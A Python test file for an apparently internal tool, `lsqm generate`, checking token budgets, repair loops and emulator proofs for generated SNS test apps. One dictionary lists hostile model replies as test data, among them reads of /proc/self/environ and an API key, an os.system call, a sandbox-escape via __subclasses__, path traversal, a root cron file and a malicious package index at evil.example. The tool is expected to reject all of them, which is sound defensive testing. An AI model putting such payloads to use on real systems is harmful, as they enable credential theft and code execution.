"""`lsqm generate` as a user runs it, with a local Messages API and, for the ladder, an emulator."""

import json
import os
import re
import threading
from collections.abc import Callable, Mapping
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest

from lsqm.artifacts.store import ArtifactStore, index_entry
from lsqm.model.app import APP_FILES
from lsqm.model.architecture import Index
from tests.conftest import terraform_tools
from tests.fakes.messages_api import KEY, Answer, MessagesApi
from tests.unit.generate.architectures import architecture
from tests.unit.generate.models import answer

Lsqm = Callable[..., CompletedProcess[str]]
Script = Callable[[Mapping[str, Any], int], Answer]

TOPIC = 'resource "aws_sns_topic" "t" { name = "news" }\noutput "arn" { value = aws_sns_topic.t.arn }\n'
WRONG = """def test_the_topic_has_a_name_of_its_own(client, resources):
    topic = resources("aws_sns_topic.t")[0]
    found = client("sns").get_topic_attributes(TopicArn=topic["arn"])["Attributes"]
    assert found["DisplayName"] == "nobody said so"


def test_two_is_more_than_one(client):
    client("sns").list_topics()
    assert 2 > 1
"""


def generate(
    lsqm: Lsqm, tmp_path: Path, script: Script, *, designs: int = 1, **environment: str
) -> tuple[dict[str, Any], MessagesApi, Path]:
    """`lsqm generate --json` on `designs` architectures; number N alone uses service `sN`, all use sns."""
    workspace = tmp_path / "w"
    store = ArtifactStore(workspace / "artifacts")
    store.initialise()
    made = [
        architecture(
            TOPIC.replace("news", f"news-{number}"),
            key=f"{number:02x}",
            services=("sns", *(f"s{n}" for n in range(number % 5))),
        )
        for number in range(designs)
    ]
    for one in made:
        store.save_architecture(one)
    store.save_index(Index(architectures={one.hash: index_entry(one.metadata) for one in made}))
    with MessagesApi(script) as api:
        done = lsqm(
            "generate", "--no-sync", "--json", "--generator", "claude", "--workspace", workspace,
            ANTHROPIC_API_KEY=KEY, ANTHROPIC_BASE_URL=api.url, **environment,
        )  # fmt: skip
    assert done.stdout, done.stderr
    return json.loads(done.stdout), api, workspace


def test_a_budget_of_20_000_tokens_on_50_architectures_holds_and_is_reported_exactly(lsqm, tmp_path):
    told, api, workspace = generate(
        lsqm, tmp_path, lambda _body, _number: Answer(text=answer(), thinking_tokens=700),
        designs=50, ANTHROPIC_TOKEN_BUDGET="20000", LSQM_PROVE="none",
    )  # fmt: skip
    assert told["tokens"] == api.billed_tokens <= 20_000
    assert sum(app["tokens"] for app in told["apps"]) == told["tokens"]
    assert told["budget_exhausted"] is True
    outcomes = [app["outcome"] for app in told["apps"]]
    written = outcomes.count("written")
    assert outcomes == ["written"] * written + ["not-done"] * (50 - written)
    assert 0 < written == len(list((workspace / "artifacts" / "apps").iterdir()))
    richest = json.loads((workspace / "artifacts/architectures/index.json").read_text())["architectures"]
    assert len(richest[told["apps"][0]["architecture"]]["services"]) == 5, "the one with most services comes first"


def test_a_budget_holds_with_repairs_thinking_broken_streams_and_questions_at_once(lsqm, tmp_path):
    both = threading.Barrier(2)

    def script(body: Mapping[str, Any], number: int) -> Answer:
        if number < 2:
            both.wait(60)
        if len(body["messages"]) == 1 and number % 2:
            return Answer(text="Certainly! Here is the app you asked for.", thinking_tokens=1_500)
        if number % 5 == 4:
            return Answer(text=answer(), break_after=100)
        return Answer(text=answer(), thinking_tokens=(number * 977) % 6_000)

    told, api, workspace = generate(
        lsqm, tmp_path, script, designs=50, ANTHROPIC_TOKEN_BUDGET="90000", LSQM_PARALLEL="6", LSQM_PROVE="none"
    )
    assert told["tokens"] == api.billed_tokens <= 90_000
    assert sum(app["tokens"] for app in told["apps"]) == told["tokens"]
    assert any(len(request["messages"]) > 1 for request in api.requests), "something was repaired"
    assert api.most_parallel > 1
    outcomes = [app["outcome"] for app in told["apps"]]
    assert outcomes.count("written") == len(list((workspace / "artifacts" / "apps").iterdir())) > 3
    assert told["budget_exhausted"] is True
    assert 0 < outcomes.count("not-done") < 50
    assert "failed" not in outcomes


HOSTILE = {
    "secrets": answer(test_app_py="def test_x(client):\n    assert open('/proc/self/environ').read()\n"),
    "environment": answer(app_py="import os\nKEY = os.environ['ANTHROPIC_API_KEY']\n"),
    "socket": answer(app_py="import socket\n"),
    "os.system": answer(test_app_py="import os\nos.system('touch /tmp/owned')\n"),
    "dunder": answer(app_py="X = ().__class__.__base__.__subclasses__()\n"),
    "loop": answer(app_py="while True:\n    pass\n"),
    "5 MB": answer(app_py="X = 1\n" * 900_000),
    "wrong names": json.dumps({name.replace("app.py", "main.py"): "" for name in APP_FILES}),
    "traversal": json.dumps({**json.loads(answer()), "../../escaped.py": "X = 1\n"}),
    "prose": "Certainly! Here is the app you asked for.",
    "twice": '{"app.py": "import os", ' + answer().lstrip("{"),
    "absolute": json.dumps({**json.loads(answer()), "/etc/cron.d/owned": "* * * * * root id"}),
    "coding": answer(app_py="# coding: raw_unicode_escape\n#\\u000aimport os\n"),
    "hook": answer(conftest_py="import json as pytest_configure\n"),
    "condition": answer(
        test_app_py="import pytest\n@pytest.mark.skipif('1', reason='x')\ndef test_x(client):\n    assert 1\n"
    ),
    "format": answer(app_py="def f(x):\n    return '{0.__globals__}'.format(x)\n"),
    "deep": answer(app_py="X = " + "-" * 20_000 + "1\n"),
    "NUL": answer(app_py="X = 1\0\n"),
    "packages": answer(requirements_txt="--index-url https://evil.example\n"),
}


def test_hostile_replies_leave_one_reason_each_and_nothing_else(lsqm, tmp_path):
    replies = list(HOSTILE.values())

    def script(body: Mapping[str, Any], _number: int) -> Answer:
        asked = re.search(r'name = "news-(\d+)"', body["messages"][0]["content"])
        return Answer(text=replies[int(asked[1])] if asked else "")

    told, api, workspace = generate(lsqm, tmp_path, script, designs=len(HOSTILE), LSQM_PROVE="none")
    assert len(told["apps"]) == len(HOSTILE)
    refused = ("malformed", "against-policy", "truncated")
    assert [(app["outcome"], app["reason"]) for app in told["apps"] if app["outcome"] not in refused] == []
    assert len({app["reason"] for app in told["apps"]}) >= 14
    assert all(app["reason"] for app in told["apps"])
    assert told["tokens"] == api.billed_tokens
    assert not list((workspace / "artifacts" / "apps").glob("*"))
    assert not list(tmp_path.rglob("escaped.py"))


@pytest.mark.terraform
@pytest.mark.emulator
def test_an_app_that_errs_is_repaired_with_what_the_emulator_said_and_is_then_proven(lsqm, tmp_path):
    tools = terraform_tools()
    told, api, workspace = generate(
        lsqm, tmp_path, lambda _body, number: Answer(text=answer(test_app_py=WRONG) if number == 0 else answer()),
        LSQM_EMULATOR="embedded", LSQM_CAGE="none",
        PATH=f"{tools.terraform.parent}{os.pathsep}{os.environ['PATH']}",
        TF_CLI_CONFIG_FILE=str(tools.cli_config),
    )  # fmt: skip
    assert [app["outcome"] for app in told["apps"]] == ["written"], told
    repair = api.requests[1]["messages"][-1]["content"]
    assert "nobody said so" in repair
    assert "test_two_is_more_than_one passes against an empty emulator" in repair
    assert "arn:aws:sns:us-east-1:000000000000:news-0" in repair
    (record,) = (workspace / "artifacts" / "apps").glob("*/app.json")
    proof = json.loads(record.read_text())["proof"]
    assert proof["rung"] == "passes-twice"
    assert proof["tests"] == {"test_app.py::test_it_is_there": True}
    assert len(api.requests) == 2
    assert not list((workspace / "scratch").iterdir())
